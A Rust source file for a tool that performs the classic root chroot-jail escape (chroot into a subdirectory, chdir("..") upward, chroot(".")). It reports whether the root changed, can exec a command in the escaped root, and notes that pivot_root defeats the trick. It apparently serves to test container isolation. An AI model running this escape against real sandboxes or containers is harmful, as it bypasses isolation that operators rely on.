//! The classic escape from a chroot jail, run by a root process.
//!
//! `chroot(2)` changes only where a process's path lookups start; it does not
//! move the process's working directory, and `..` is only stopped at the
//! process's own root. So a root process can:
//!
//! 1. chroot into a subdirectory while its working directory stays outside it;
//! 2. `chdir("..")` upwards: nothing stops it, because its root is not above it;
//! 3. chroot(".") at the top: the real root is its root again.
//!
//! After `pivot_root(2)` and unmounting the old root, step 2 ends at the
//! container's own root: the host's tree is no longer in the mount namespace.
//!
//! Usage: `chroot-escape [COMMAND ARGS...]`: escape, say whether `/` changed,
//! then exec COMMAND (looked up in the new root).

use std::os::unix::fs::{MetadataExt, chroot};
use std::os::unix::process::CommandExt;
use std::process::{Command, ExitCode};

fn main() -> ExitCode {
    match escape() {
        Ok(()) => {}
        Err(err) => {
            eprintln!("chroot-escape: {err}");
            return ExitCode::from(1);
        }
    }
    let args: Vec<String> = std::env::args().skip(1).collect();
    let Some((program, rest)) = args.split_first() else {
        return ExitCode::SUCCESS;
    };
    let err = Command::new(program).args(rest).exec();
    eprintln!("chroot-escape: exec {program}: {err}");
    ExitCode::from(127)
}

fn escape() -> std::io::Result<()> {
    let before = std::fs::metadata("/")?;
    // A jail on a tmpfs, so nothing is written to the root filesystem.
    let jail = "/dev/shm/chroot-escape-jail";
    std::fs::create_dir_all(jail)?;
    std::env::set_current_dir("/")?;
    chroot(jail)?; // our root is now the jail; our working directory is not in it
    for _ in 0..64 {
        std::env::set_current_dir("..")?; // not stopped: our root is not above us
    }
    chroot(".")?; // wherever we ended up becomes our root
    std::env::set_current_dir("/")?;
    let after = std::fs::metadata("/")?;
    if (before.dev(), before.ino()) == (after.dev(), after.ino()) {
        eprintln!(
            "chroot-escape: chroot, chdir(\"..\") x64, chroot(\".\"): still in the same root"
        );
    } else {
        eprintln!(
            "chroot-escape: chroot, chdir(\"..\") x64, chroot(\".\"): escaped, \"/\" is now another directory"
        );
    }
    Ok(())
}
